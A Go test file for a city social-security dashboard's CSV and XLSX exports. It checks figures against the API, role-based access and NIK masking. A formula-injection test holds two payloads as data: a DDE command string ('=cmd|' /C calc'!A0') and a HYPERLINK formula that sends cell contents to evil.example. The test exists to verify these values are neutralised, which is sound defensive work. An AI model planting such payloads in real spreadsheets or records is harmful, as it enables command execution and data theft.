package graph_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"log/slog"
	"maps"
	"math"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/cilegon/jamsostek/coverage"
	"github.com/cilegon/jamsostek/graph"
)

// The exports are tested against the API they read: every figure of every
// file, parsed back (encoding/csv, excelize), equals the API's answer to
// the same caller, fetched by the test with its own queries.

var (
	wib = time.FixedZone("WIB", 7*60*60)
	// hostileAdmin is an admin whose name a spreadsheet would run.
	hostileAdmin = graph.Principal{Name: "=cmd|' /C calc'!A0", Role: graph.RoleAdmin, Method: "api-key", KeyID: "k-hostile"}
)

type exportFixture struct {
	*fixture
	ex  http.Handler
	spy *auditSpy
}

// newExportFixture is the access fixture (records and the reconciliation's
// eleven discrepancies) with the exports over its handler, paging two rows
// at a time, and an audit spy.
func newExportFixture(t *testing.T, cfg graph.ExportConfig, gcfg graph.Config) *exportFixture {
	t.Helper()
	spy := &auditSpy{}
	ks := maps.Clone(keys)
	ks["hostile-key"] = hostileAdmin
	gcfg.AuditLog, gcfg.Authenticate = spy, graph.StaticKeys(ks)
	f := accessFixture(t, gcfg)
	spy.AuditLog = f.store
	cfg.Logger = slog.New(slog.DiscardHandler)
	if cfg.PageSize == 0 {
		cfg.PageSize = 2
	}
	return &exportFixture{fixture: f, ex: graph.ExportHandler(f.handler, cfg), spy: spy}
}

func (x *exportFixture) get(t *testing.T, key, path string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest(http.MethodGet, path, nil)
	if key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	req.RemoteAddr = "192.0.2.7:4000"
	w := httptest.NewRecorder()
	x.ex.ServeHTTP(w, req)
	return w
}

// ask posts a query as key and decodes its data, failing on any error.
func (x *exportFixture) ask(t *testing.T, key, query string, vars map[string]any, out any) {
	t.Helper()
	_, resp := x.postAs(t, key, query, vars)
	if len(resp.Errors) > 0 {
		t.Fatalf("%s: %+v", query, resp.Errors)
	}
	if err := json.Unmarshal(resp.Data, out); err != nil {
		t.Fatal(err)
	}
}

// Column kinds of the expected tables.
const (
	kText   = 't'
	kNum    = 'n' // a count or whole rupiah
	kRate   = 'r'
	kPeriod = 'p'
	kTime   = 'd'
)

type wantCol struct {
	header string
	kind   byte
}

// wantTable is a table as the API gave it: a cell is nil (empty), a
// string, an int64, a float64 or a time.Time.
type wantTable struct {
	cols []wantCol
	rows [][]any
}

// report is a file parsed back: the header block (label: value) and its
// tables, each its header row and its rows, raw.
type report struct {
	title  string
	header map[string]string
	tables [][][]string
}

// neutral is the test's own rule: a text whose first character after
// spaces is = + - @ TAB or CR gets a quote in front.
func neutral(s string) string {
	t := strings.TrimLeft(s, " ")
	if t != "" && strings.ContainsRune("=+-@\t\r", rune(t[0])) {
		return "'" + s
	}
	return s
}

func parseCSV(t *testing.T, b []byte) report {
	t.Helper()
	if !bytes.HasPrefix(b, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("CSV without a byte order mark: %q", b[:min(len(b), 20)])
	}
	if bytes.Count(b, []byte("\n")) != bytes.Count(b, []byte("\r\n")) {
		t.Errorf("CSV with a line not ending in CRLF")
	}
	r := csv.NewReader(bytes.NewReader(b[3:]))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	rep := report{title: recs[0][0], header: map[string]string{}}
	i := 1
	for ; i < len(recs) && len(recs[i]) == 2 && i < 6; i++ {
		rep.header[recs[i][0]] = recs[i][1]
	}
	var table [][]string
	for ; i < len(recs); i++ {
		if len(recs[i]) == 1 { // the title of the next block
			rep.tables, table = append(rep.tables, table), nil
			continue
		}
		table = append(table, recs[i])
	}
	rep.tables = append(rep.tables, table)
	return rep
}

func parseXLSX(t *testing.T, b []byte) report {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var rep report
	for n, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if n == 0 {
			rep.title, rep.header = rows[0][0], map[string]string{}
			for _, r := range rows[1:6] {
				rep.header[r[0]] = r[1]
			}
		}
		if len(rows[6]) != 0 {
			t.Errorf("%s: row 7 is not blank: %q", sheet, rows[6])
		}
		// The table's header is bold and frozen, with an autofilter.
		if panes, err := f.GetPanes(sheet); err != nil || !panes.Freeze || panes.YSplit != 8 {
			t.Errorf("%s: panes %+v %v", sheet, panes, err)
		}
		if tables, err := f.GetTables(sheet); err != nil || len(tables) != 1 || !strings.HasPrefix(tables[0].Range, "A8:") {
			t.Errorf("%s: tables %+v %v", sheet, tables, err)
		}
		table := rows[7:]
		for i := range table { // GetRows drops a row's trailing empty cells
			for len(table[i]) < len(table[0]) {
				table[i] = append(table[i], "")
			}
		}
		rep.tables = append(rep.tables, table)
		// Text is never a formula; money has the rupiah format.
		for r := 9; r < 9+len(table)-1; r++ {
			for c := 1; c <= len(table[0]); c++ {
				ref, _ := excelize.CoordinatesToCellName(c, r)
				if fm, _ := f.GetCellFormula(sheet, ref); fm != "" {
					t.Errorf("%s!%s holds a formula %q", sheet, ref, fm)
				}
				if strings.HasSuffix(table[0][c-1], "(Rp)") {
					id, _ := f.GetCellStyle(sheet, ref)
					if st, _ := f.GetStyle(id); st == nil || st.CustomNumFmt == nil || *st.CustomNumFmt != `"Rp"#,##0` {
						t.Errorf("%s!%s (%s) is not formatted as rupiah", sheet, ref, table[0][c-1])
					}
				}
			}
		}
	}
	return rep
}

// check compares a table parsed back with the API's.
func check(t *testing.T, format, name string, got [][]string, want wantTable) {
	t.Helper()
	var heads []string
	for _, c := range want.cols {
		heads = append(heads, c.header)
	}
	if len(got) == 0 || !slices.Equal(got[0], heads) {
		t.Fatalf("%s: header\n got %q\nwant %q", name, got[:min(len(got), 1)], heads)
	}
	if len(got)-1 != len(want.rows) {
		t.Fatalf("%s: %d rows, the API has %d", name, len(got)-1, len(want.rows))
	}
	for i, row := range want.rows {
		for j, v := range row {
			cell, col := got[i+1][j], want.cols[j]
			if msg := cellMismatch(format, col.kind, cell, v); msg != "" {
				t.Errorf("%s row %d, %s: got %q, the API's %v: %s", name, i+1, col.header, cell, v, msg)
			}
		}
	}
}

func cellMismatch(format string, kind byte, cell string, v any) string {
	if v == nil {
		if cell != "" {
			return "want empty"
		}
		return ""
	}
	switch x := v.(type) {
	case string:
		switch kind {
		case kPeriod:
			if format == "xlsx" {
				f, err := strconv.ParseFloat(cell, 64)
				d, _ := excelize.ExcelDateToTime(f, false)
				if err != nil || d.Format("2006-01") != x {
					return "not that month's date serial"
				}
				return ""
			}
			if cell != x {
				return "not that month"
			}
			return ""
		}
		if cell != neutral(x) {
			return "text differs (neutralised: " + strconv.Quote(neutral(x)) + ")"
		}
	case int64:
		if cell != strconv.FormatInt(x, 10) {
			return "number differs"
		}
	case float64:
		f, err := strconv.ParseFloat(cell, 64)
		// XLSX keeps 15 significant digits, as Excel does; CSV every one.
		if err != nil || f != x && (format != "xlsx" || math.Abs(f-x) > 1e-14*math.Abs(x)) {
			return "rate differs"
		}
	case time.Time:
		if format == "xlsx" {
			f, err := strconv.ParseFloat(cell, 64)
			d, _ := excelize.ExcelDateToTime(f, false)
			wall := x.In(wib)
			if err != nil || math.Abs(d.Sub(time.Date(wall.Year(), wall.Month(), wall.Day(), wall.Hour(), wall.Minute(), wall.Second(), 0, time.UTC)).Seconds()) > 1 {
				return "not that instant's WIB serial"
			}
			return ""
		}
		d, err := time.Parse(time.RFC3339, cell)
		if err != nil || !d.Equal(x) || !strings.HasSuffix(cell, "+07:00") {
			return "not that instant in WIB"
		}
	default:
		return fmt.Sprintf("unexpected %T", v)
	}
	return ""
}

// opt is a nullable API value as a cell.
func optCell[T any](p *T) any {
	if p == nil {
		return nil
	}
	return *p
}

type apiRollup struct {
	Version int
	AsOf    time.Time
}

// checkHead checks the header block and the response's headers.
func checkHead(t *testing.T, w *httptest.ResponseRecorder, format, name string, rep report, title string, roll apiRollup, by string, filters ...string) {
	t.Helper()
	if w.Code != http.StatusOK {
		t.Fatalf("%s.%s: %d %s", name, format, w.Code, w.Body)
	}
	ct := map[string]string{"csv": "text/csv; charset=utf-8", "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}[format]
	h := w.Header()
	if h.Get("Content-Type") != ct || h.Get("Cache-Control") != "no-store" ||
		h.Get("Content-Disposition") != `attachment; filename="jamsostek-`+name+"-"+roll.AsOf.In(wib).Format("2006-01-02")+"."+format+`"` ||
		h.Get("Access-Control-Allow-Origin") != "" || h.Get("Content-Length") != strconv.Itoa(w.Body.Len()) {
		t.Errorf("%s.%s: headers %v", name, format, h)
	}
	if rep.title != title {
		t.Errorf("%s.%s: title %q, want %q", name, format, rep.title, title)
	}
	asOf := rep.header["Data per"]
	if format == "xlsx" {
		f, _ := strconv.ParseFloat(asOf, 64)
		d, _ := excelize.ExcelDateToTime(f, false)
		asOf = d.Round(time.Second).Format("2006-01-02T15:04:05") + "+07:00"
	}
	if asOf != roll.AsOf.In(wib).Format(time.RFC3339) || rep.header["Versi rollup"] != strconv.Itoa(roll.Version) ||
		rep.header["Oleh"] != neutral(by) || rep.header["Dibuat"] == "" {
		t.Errorf("%s.%s: header block %q, want as-of %s, version %d, by %q", name, format, rep.header, roll.AsOf, roll.Version, by)
	}
	for _, f := range filters {
		if !strings.Contains(rep.header["Filter"], f) {
			t.Errorf("%s.%s: filters %q do not name %q", name, format, rep.header["Filter"], f)
		}
	}
}

func parse(t *testing.T, format string, b []byte) report {
	t.Helper()
	if format == "xlsx" {
		return parseXLSX(t, b)
	}
	return parseCSV(t, b)
}

var formats = []string{"csv", "xlsx"}

// The API's coverage answer, as the test asks it.
type apiCoverage struct {
	Areas []struct {
		Code, Name string
		Kelurahan  []struct{ Code, Name string }
	}
	Coverage struct {
		Rollup apiRollup
		Rows   []struct {
			Bucket, KecamatanCode, KelurahanCode, Category, Payer *string
			From, To                                              string
			Measures                                              map[string]json.RawMessage
		}
	}
}

var coverageMeasures = []struct{ header, field string }{
	{"Peserta aktif", "activeParticipants"}, {"Peserta baru", "newMembers"}, {"Peserta berhenti", "lapsedMembers"},
	{"Iuran ditagih (jumlah)", "contributionsBilled"}, {"Iuran terutang (Rp)", "contributionsDue"},
	{"Iuran dibayar (jumlah)", "contributionsPaidCount"}, {"Iuran dibayar (Rp)", "contributionsPaid"},
	{"Tunggakan (jumlah)", "unpaidOverdue"}, {"Tunggakan (Rp)", "arrears"}, {"Klaim diajukan (jumlah)", "claimsSubmitted"},
	{"Klaim diajukan (Rp)", "claimsSubmittedAmount"}, {"Klaim dibayar (jumlah)", "claimsPaid"}, {"Klaim dibayar (Rp)", "claimsPaidAmount"},
}

// wantCoverage asks the API the coverage table grouped by kelurahan and
// category (and by month when granularity is set) and lays it out as the
// export must.
func wantCoverage(t *testing.T, x *exportFixture, key string, filter map[string]any, groupBy []string, granularity string) (wantTable, apiRollup) {
	var ans apiCoverage
	vars := map[string]any{"f": filter, "g": groupBy}
	if granularity != "" {
		vars["gr"] = granularity
	}
	x.ask(t, key, `query($f: CoverageFilter, $g: [CoverageDimension!], $gr: Granularity) { areas { code name kelurahan { code name } }
		coverage(filter: $f, groupBy: $g, granularity: $gr) { rollup { version asOf } rows(first: 5000) { bucket from to kecamatanCode kelurahanCode category payer
		measures { activeParticipants newMembers lapsedMembers contributionsBilled contributionsDue contributionsPaidCount contributionsPaid
		unpaidOverdue arrears claimsSubmitted claimsSubmittedAmount claimsPaid claimsPaidAmount claimsByProgram { program submitted submittedAmount paid paidAmount }
		fundedWorkers fundedEnrolled fundedMonthlyCost } } } }`, vars, &ans)
	names := map[string]string{}
	for _, k := range ans.Areas {
		names[k.Code] = k.Name
		for _, l := range k.Kelurahan {
			names[l.Code] = l.Name
		}
	}
	var w wantTable
	if granularity != "" {
		w.cols = append(w.cols, wantCol{"Periode", kText})
	}
	w.cols = append(w.cols, wantCol{"Dari", kPeriod}, wantCol{"Sampai", kPeriod})
	kel, kec := slices.Contains(groupBy, "KELURAHAN"), slices.Contains(groupBy, "KECAMATAN") || slices.Contains(groupBy, "KELURAHAN")
	if kec {
		w.cols = append(w.cols, wantCol{"Kode kecamatan", kText}, wantCol{"Kecamatan", kText})
	}
	if kel {
		w.cols = append(w.cols, wantCol{"Kode kelurahan", kText}, wantCol{"Kelurahan", kText})
	}
	if slices.Contains(groupBy, "CATEGORY") {
		w.cols = append(w.cols, wantCol{"Kategori", kText}, wantCol{"Nama kategori", kText})
	}
	if slices.Contains(groupBy, "PAYER") {
		w.cols = append(w.cols, wantCol{"Pembayar", kText})
	}
	for _, m := range coverageMeasures {
		w.cols = append(w.cols, wantCol{m.header, kNum})
	}
	for _, p := range coverage.Programs {
		for _, h := range []string{"diajukan (jumlah)", "diajukan (Rp)", "dibayar (jumlah)", "dibayar (Rp)"} {
			w.cols = append(w.cols, wantCol{"Klaim " + string(p) + " " + h, kNum})
		}
	}
	w.cols = append(w.cols, wantCol{"Pekerja didanai kota", kNum}, wantCol{"Didanai dan terdaftar", kNum}, wantCol{"Biaya bulanan pendanaan (Rp)", kNum})
	num := func(raw json.RawMessage) int64 {
		n, err := strconv.ParseInt(string(raw), 10, 64)
		if err != nil {
			t.Fatalf("measure %s: %v", raw, err)
		}
		return n
	}
	for _, r := range ans.Coverage.Rows {
		var row []any
		if granularity != "" {
			row = append(row, optCell(r.Bucket))
		}
		row = append(row, r.From, r.To)
		if kec {
			row = append(row, optCell(r.KecamatanCode), names[deref(r.KecamatanCode)])
		}
		if kel {
			row = append(row, optCell(r.KelurahanCode), names[deref(r.KelurahanCode)])
		}
		if slices.Contains(groupBy, "CATEGORY") {
			row = append(row, optCell(r.Category), coverage.CategoryNames[coverage.Category(deref(r.Category))])
		}
		if slices.Contains(groupBy, "PAYER") {
			row = append(row, optCell(r.Payer))
		}
		for _, m := range coverageMeasures {
			row = append(row, num(r.Measures[m.field]))
		}
		var progs []struct {
			Program                                      string
			Submitted, SubmittedAmount, Paid, PaidAmount int64
		}
		if err := json.Unmarshal(r.Measures["claimsByProgram"], &progs); err != nil {
			t.Fatal(err)
		}
		for _, p := range coverage.Programs {
			cells := []any{int64(0), int64(0), int64(0), int64(0)}
			for _, c := range progs {
				if c.Program == string(p) {
					cells = []any{c.Submitted, c.SubmittedAmount, c.Paid, c.PaidAmount}
				}
			}
			row = append(row, cells...)
		}
		row = append(row, num(r.Measures["fundedWorkers"]), num(r.Measures["fundedEnrolled"]), num(r.Measures["fundedMonthlyCost"]))
		w.rows = append(w.rows, row)
	}
	return w, ans.Coverage.Rollup
}

func deref(s *string) string {
	if s == nil {
		return ""
	}
	return *s
}

type apiDiscrepancy struct {
	ID, Kind, Severity, Status                 string
	Nik, Kpj, Category, ClaimNo, AreaCode      *string
	Kelurahan                                  *struct{ Name string }
	Periods                                    []string
	Amount                                     int64
	Detail, FirstRun                           string
	FirstSeen, LastSeen                        time.Time
	AcknowledgedBy, ResolvedBy, ResolutionNote *string
	AcknowledgedAt, ResolvedAt                 *time.Time
	AutoResolved                               bool
}

var discrepancyCols = []wantCol{{"ID", kText}, {"Jenis", kText}, {"Uraian jenis", kText}, {"Tingkat", kText}, {"Status", kText},
	{"NIK", kText}, {"KPJ", kText}, {"Kategori", kText}, {"No. klaim", kText}, {"Kode wilayah", kText}, {"Kelurahan", kText},
	{"Bulan", kText}, {"Nilai (Rp)", kNum}, {"Rincian", kText}, {"Pertama ditemukan (WIB)", kTime}, {"Terakhir ditemukan (WIB)", kTime},
	{"Run pertama", kText}, {"Ditindaklanjuti oleh", kText}, {"Ditindaklanjuti pada (WIB)", kTime}, {"Diselesaikan oleh", kText},
	{"Diselesaikan pada (WIB)", kTime}, {"Catatan penyelesaian", kText}, {"Selesai otomatis", kText}}

// The words of the codes, as the export writes them.
var (
	kindWords     = map[string]string{"UNPAID_MONTHS": "Iuran belum dibayar", "INACTIVE_3_MONTHS": "Nonaktif karena 3 bulan tidak membayar", "CLAIM_OUTSIDE_COVERAGE": "Klaim di luar masa perlindungan", "DOUBLE_FUNDED": "Didanai ganda", "DECLARED_TOTAL_MISMATCH": "Angka yang dilaporkan berbeda dari hitungan", "FUNDED_NOT_PAID": "Didanai tetapi iuran tidak dibayar"}
	severityWords = map[string]string{"HIGH": "tinggi", "MEDIUM": "sedang", "LOW": "rendah"}
	statusWords   = map[string]string{"OPEN": "terbuka", "ACKNOWLEDGED": "ditindaklanjuti", "RESOLVED": "selesai"}
)

func wantDiscrepancies(t *testing.T, x *exportFixture, key string, filter map[string]any) (wantTable, []apiDiscrepancy, apiRollup) {
	var ans struct {
		Coverage      struct{ Rollup apiRollup }
		Discrepancies struct {
			Edges []struct{ Node apiDiscrepancy }
		}
	}
	x.ask(t, key, `query($f: DiscrepancyFilter) { coverage { rollup { version asOf } } discrepancies(filter: $f, first: 1000) { edges { node {
		id kind severity status nik kpj category claimNo areaCode kelurahan { name } periods amount detail firstSeen lastSeen firstRun
		acknowledgedBy acknowledgedAt resolvedBy resolvedAt resolutionNote autoResolved } } } }`, map[string]any{"f": filter}, &ans)
	w := wantTable{cols: discrepancyCols}
	var ds []apiDiscrepancy
	for _, e := range ans.Discrepancies.Edges {
		d := e.Node
		ds = append(ds, d)
		var kel any
		if d.Kelurahan != nil {
			kel = d.Kelurahan.Name
		}
		var ackAt, resAt any
		if d.AcknowledgedAt != nil {
			ackAt = *d.AcknowledgedAt
		}
		if d.ResolvedAt != nil {
			resAt = *d.ResolvedAt
		}
		auto := "tidak"
		if d.AutoResolved {
			auto = "ya"
		}
		w.rows = append(w.rows, []any{d.ID, d.Kind, kindWords[d.Kind], severityWords[d.Severity], statusWords[d.Status], optCell(d.Nik),
			optCell(d.Kpj), optCell(d.Category), optCell(d.ClaimNo), optCell(d.AreaCode), kel, strings.Join(d.Periods, ", "), d.Amount,
			d.Detail, d.FirstSeen, d.LastSeen, d.FirstRun, optCell(d.AcknowledgedBy), ackAt, optCell(d.ResolvedBy), resAt,
			optCell(d.ResolutionNote), auto})
	}
	return w, ds, ans.Coverage.Rollup
}

func wantAPBD(t *testing.T, x *exportFixture, key string, year int) ([]wantTable, apiRollup) {
	type month struct {
		Period                                                                                   string
		Funded, FundedEnrolled, ContributionsDue, ContributionsPaid, ClaimsPaidCount, ClaimsPaid int64
	}
	type line struct {
		Category, CategoryName                                                                                    *string
		Workers, ContributionsDue, ContributionsPaid, ClaimsPaidCount, ClaimsPaid, Net, MonthlyCost, NextYearCost int64
		LossRatio                                                                                                 *float64
		Months                                                                                                    []month
	}
	var ans struct {
		ApbdProgram struct {
			Rollup     apiRollup
			Categories []line
			Total      line
		}
	}
	fields := `category categoryName workers contributionsDue contributionsPaid claimsPaidCount claimsPaid net lossRatio monthlyCost nextYearCost
		months { period funded fundedEnrolled contributionsDue contributionsPaid claimsPaidCount claimsPaid }`
	x.ask(t, key, `query($y: Int!) { apbdProgram(year: $y) { rollup { version asOf } categories { `+fields+` } total { `+fields+` } } }`,
		map[string]any{"y": year}, &ans)
	byCat := wantTable{cols: []wantCol{{"Kategori", kText}, {"Nama kategori", kText}, {"Pekerja", kNum}, {"Iuran terutang (Rp)", kNum},
		{"Iuran dibayar (Rp)", kNum}, {"Klaim dibayar (jumlah)", kNum}, {"Klaim dibayar (Rp)", kNum}, {"Selisih iuran dan klaim (Rp)", kNum},
		{"Rasio klaim", kRate}, {"Biaya bulanan (Rp)", kNum}, {"Biaya tahun depan (Rp)", kNum}}}
	byMonth := wantTable{cols: []wantCol{{"Kategori", kText}, {"Nama kategori", kText}, {"Bulan", kPeriod}, {"Pekerja didanai", kNum},
		{"Didanai dan terdaftar", kNum}, {"Iuran terutang (Rp)", kNum}, {"Iuran dibayar (Rp)", kNum}, {"Klaim dibayar (jumlah)", kNum}, {"Klaim dibayar (Rp)", kNum}}}
	lines := append(ans.ApbdProgram.Categories, ans.ApbdProgram.Total)
	for i, l := range lines {
		name := deref(l.CategoryName)
		switch {
		case i == len(lines)-1:
			name = "Jumlah"
		case l.CategoryName == nil && l.Category == nil:
			name = "Tanpa daftar kota"
		}
		byCat.rows = append(byCat.rows, []any{optCell(l.Category), name, l.Workers, l.ContributionsDue, l.ContributionsPaid, l.ClaimsPaidCount,
			l.ClaimsPaid, l.Net, optCell(l.LossRatio), l.MonthlyCost, l.NextYearCost})
		for _, m := range l.Months {
			byMonth.rows = append(byMonth.rows, []any{optCell(l.Category), name, m.Period, m.Funded, m.FundedEnrolled, m.ContributionsDue,
				m.ContributionsPaid, m.ClaimsPaidCount, m.ClaimsPaid})
		}
	}
	if len(byMonth.rows) == 0 || len(ans.ApbdProgram.Categories) < 3 {
		t.Fatalf("the fixture's programme is too small to test: %+v", ans)
	}
	return []wantTable{byCat, byMonth}, ans.ApbdProgram.Rollup
}

// TestExports: every export in both formats against the API's answers, for
// the roles that may have it; the officer's of its area only, the analyst's
// masked; a viewer is refused records.
func TestExports(t *testing.T) {
	x := newExportFixture(t, graph.ExportConfig{}, graph.Config{})
	for _, format := range formats {
		t.Run("coverage by kelurahan, category and month/"+format, func(t *testing.T) {
			want, roll := wantCoverage(t, x, "admin-key", map[string]any{"from": "2024-01", "to": "2024-06"}, []string{"KELURAHAN", "CATEGORY"}, "MONTH")
			w := x.get(t, "admin-key", "/export/coverage."+format+"?from=2024-01&to=2024-06&groupBy=KELURAHAN,CATEGORY&granularity=MONTH")
			rep := parse(t, format, w.Body.Bytes())
			checkHead(t, w, format, "coverage", rep, "Cakupan kepesertaan BPJS Ketenagakerjaan", roll, "root (ADMIN)",
				"Wilayah: 3672 Kota Cilegon (seluruh kota)", "Periode: Januari 2024 s.d. Juni 2024", "Dikelompokkan per: kelurahan, kategori", "Waktu: per bulan")
			check(t, format, "coverage", rep.tables[0], want)
			if len(want.rows) < 5 {
				t.Errorf("only %d rows: the pages of 2 are not exercised", len(want.rows))
			}
		})
		t.Run("coverage of an officer/"+format, func(t *testing.T) {
			want, roll := wantCoverage(t, x, "officer-key", map[string]any{"payers": []string{"APBD", "SELF"}}, []string{"KECAMATAN", "PAYER"}, "")
			w := x.get(t, "officer-key", "/export/coverage."+format+"?groupBy=KECAMATAN&groupBy=PAYER&payers=APBD,SELF")
			rep := parse(t, format, w.Body.Bytes())
			checkHead(t, w, format, "coverage", rep, "Cakupan kepesertaan BPJS Ketenagakerjaan", roll, "camat-cibeber (OFFICER, wilayah 367201 Kecamatan Cibeber)",
				"Wilayah: 367201 Kecamatan Cibeber (wilayah pengguna)", "Pembayar: APBD (kota), mandiri")
			check(t, format, "coverage", rep.tables[0], want)
			for _, r := range rep.tables[0][1:] {
				if r[2] != "367201" {
					t.Errorf("the officer's export holds kecamatan %s", r[2])
				}
			}
		})
		t.Run("coverage of a viewer/"+format, func(t *testing.T) {
			want, roll := wantCoverage(t, x, "viewer-key", map[string]any{"cityFunded": true}, nil, "")
			w := x.get(t, "viewer-key", "/export/coverage."+format+"?cityFunded=true")
			rep := parse(t, format, w.Body.Bytes())
			checkHead(t, w, format, "coverage", rep, "Cakupan kepesertaan BPJS Ketenagakerjaan", roll, "dashboard (VIEWER)", "Didanai kota (APBD): ya")
			check(t, format, "coverage", rep.tables[0], want)
		})

		t.Run("discrepancies/"+format, func(t *testing.T) {
			want, _, roll := wantDiscrepancies(t, x, "admin-key", map[string]any{})
			w := x.get(t, "admin-key", "/export/discrepancies."+format)
			rep := parse(t, format, w.Body.Bytes())
			checkHead(t, w, format, "discrepancies", rep, "Daftar temuan rekonsiliasi", roll, "root (ADMIN)", "Wilayah: 3672 Kota Cilegon (seluruh kota)")
			check(t, format, "discrepancies", rep.tables[0], want)
			if len(want.rows) != 11 {
				t.Errorf("%d discrepancies, the fixture has 11", len(want.rows))
			}
		})
		t.Run("discrepancies of an officer/"+format, func(t *testing.T) {
			filter := map[string]any{"kinds": []string{"UNPAID_MONTHS", "FUNDED_NOT_PAID", "DOUBLE_FUNDED"}, "statuses": []string{"OPEN"}}
			want, ds, roll := wantDiscrepancies(t, x, "officer-key", filter)
			w := x.get(t, "officer-key", "/export/discrepancies."+format+"?kinds=UNPAID_MONTHS,FUNDED_NOT_PAID&kinds=DOUBLE_FUNDED&statuses=OPEN")
			rep := parse(t, format, w.Body.Bytes())
			checkHead(t, w, format, "discrepancies", rep, "Daftar temuan rekonsiliasi", roll, "camat-cibeber (OFFICER, wilayah 367201 Kecamatan Cibeber)",
				"Jenis temuan: Iuran belum dibayar, Didanai tetapi iuran tidak dibayar, Didanai ganda", "Status: terbuka", "Wilayah: 367201 Kecamatan Cibeber (wilayah pengguna)")
			check(t, format, "discrepancies", rep.tables[0], want)
			if len(ds) != 3 {
				t.Errorf("the officer has %d discrepancies, want Cibeber's 3", len(ds))
			}
			for _, d := range ds {
				if !strings.HasPrefix(deref(d.AreaCode), "367201") || deref(d.Nik) != nikA {
					t.Errorf("the officer's export holds %s in %s", d.ID, deref(d.AreaCode))
				}
			}
		})
		t.Run("discrepancies of an analyst/"+format, func(t *testing.T) {
			x.spy.take()
			want, ds, roll := wantDiscrepancies(t, x, "analyst-key", map[string]any{})
			x.spy.take()
			w := x.get(t, "analyst-key", "/export/discrepancies."+format)
			rep := parse(t, format, w.Body.Bytes())
			checkHead(t, w, format, "discrepancies", rep, "Daftar temuan rekonsiliasi", roll, "bappeda (ANALYST)")
			check(t, format, "discrepancies", rep.tables[0], want)
			masked := regexp.MustCompile(`^3672\*{8}[0-9]{4}$`)
			for i, r := range rep.tables[0][1:] {
				if (r[5] != "" || ds[i].Kind != "DECLARED_TOTAL_MISMATCH") && !masked.MatchString(r[5]) {
					t.Errorf("row %d: NIK %q is not masked", i+1, r[5])
				}
			}
			for _, nik := range []string{nikA, nikB, "3672021111800004"} {
				if bytes.Contains(w.Body.Bytes(), []byte(nik)) {
					t.Errorf("the analyst's file carries NIK %s", nik)
				}
			}
			// Every page read personal data: one audit entry each, masked.
			es := x.spy.take()
			if len(es) != 6 {
				t.Errorf("%d audit entries for 6 pages of 2: %+v", len(es), es)
			}
			for _, e := range es {
				if e.Principal != "bappeda" || e.Operation != "ExportDiscrepancies" || !e.Masked || !slices.Contains(e.Fields, "Discrepancy.nik") {
					t.Errorf("audit entry %+v", e)
				}
			}
		})
		t.Run("discrepancies of a viewer/"+format, func(t *testing.T) {
			w := x.get(t, "viewer-key", "/export/discrepancies."+format)
			if w.Code != http.StatusForbidden || !strings.Contains(w.Body.String(), `"FORBIDDEN"`) || w.Header().Get("Content-Disposition") != "" {
				t.Errorf("a viewer's discrepancies: %d %s", w.Code, w.Body)
			}
		})

		t.Run("apbd/"+format, func(t *testing.T) {
			for _, key := range []string{"viewer-key", "admin-key"} {
				want, roll := wantAPBD(t, x, key, 2024)
				w := x.get(t, key, "/export/apbd."+format+"?year=2024")
				rep := parse(t, format, w.Body.Bytes())
				checkHead(t, w, format, "apbd", rep, "Program jaminan sosial pekerja rentan APBD", roll, map[string]string{"viewer-key": "dashboard (VIEWER)", "admin-key": "root (ADMIN)"}[key],
					"Tahun: 2024", "Periode: Januari 2024 s.d. Agustus 2024")
				if len(rep.tables) != 2 {
					t.Fatalf("%d tables, want 2", len(rep.tables))
				}
				check(t, format, "apbd by category", rep.tables[0], want[0])
				check(t, format, "apbd by month", rep.tables[1], want[1])
			}
			if w := x.get(t, "officer-key", "/export/apbd."+format+"?year=2024"); w.Code != http.StatusForbidden {
				t.Errorf("an officer's apbd: %d %s", w.Code, w.Body)
			}
		})
	}

	t.Run("no personal data, no audit entry", func(t *testing.T) {
		x.spy.take()
		for _, p := range []string{"/export/coverage.csv", "/export/apbd.xlsx?year=2024"} {
			if w := x.get(t, "analyst-key", p); w.Code != http.StatusOK {
				t.Fatalf("%s: %d %s", p, w.Code, w.Body)
			}
		}
		if es := x.spy.take(); len(es) != 0 {
			t.Errorf("aggregates wrote audit entries %+v", es)
		}
	})
}

// TestExportsNeutraliseFormulas: text a spreadsheet would run (a resolution
// note an admin typed, a caller's name) is quoted in both formats, and an
// XLSX cell holding it is a string, never a formula.
func TestExportsNeutraliseFormulas(t *testing.T) {
	x := newExportFixture(t, graph.ExportConfig{PageSize: 1000}, graph.Config{})
	note := `=HYPERLINK("http://evil.example/?"&A1,"klik")`
	_, ds, _ := wantDiscrepancies(t, x, "admin-key", map[string]any{"kinds": []string{"DOUBLE_FUNDED"}})
	var res struct{ ResolveDiscrepancy struct{ Status string } }
	x.ask(t, "admin-key", `mutation($id: ID!, $note: String!) { resolveDiscrepancy(id: $id, note: $note) { status } }`,
		map[string]any{"id": ds[0].ID, "note": note}, &res)

	path := "/export/discrepancies.%s?kinds=DOUBLE_FUNDED"
	w := x.get(t, "hostile-key", fmt.Sprintf(path, "csv"))
	rep := parseCSV(t, w.Body.Bytes())
	if got := rep.tables[0][1][21]; got != "'"+note {
		t.Errorf("CSV note: got %q, want %q", got, "'"+note)
	}
	if got := rep.header["Oleh"]; got != "'"+hostileAdmin.Name+" (ADMIN)" {
		t.Errorf("CSV caller: got %q", got)
	}
	if bytes.Contains(w.Body.Bytes(), []byte("\n"+note)) || bytes.Contains(w.Body.Bytes(), []byte(","+note)) ||
		bytes.Contains(w.Body.Bytes(), []byte(`,"=`)) || bytes.Contains(w.Body.Bytes(), []byte(",=")) {
		t.Errorf("a cell of the CSV starts with =:\n%s", w.Body)
	}

	w = x.get(t, "hostile-key", fmt.Sprintf(path, "xlsx"))
	f, err := excelize.OpenReader(bytes.NewReader(w.Body.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
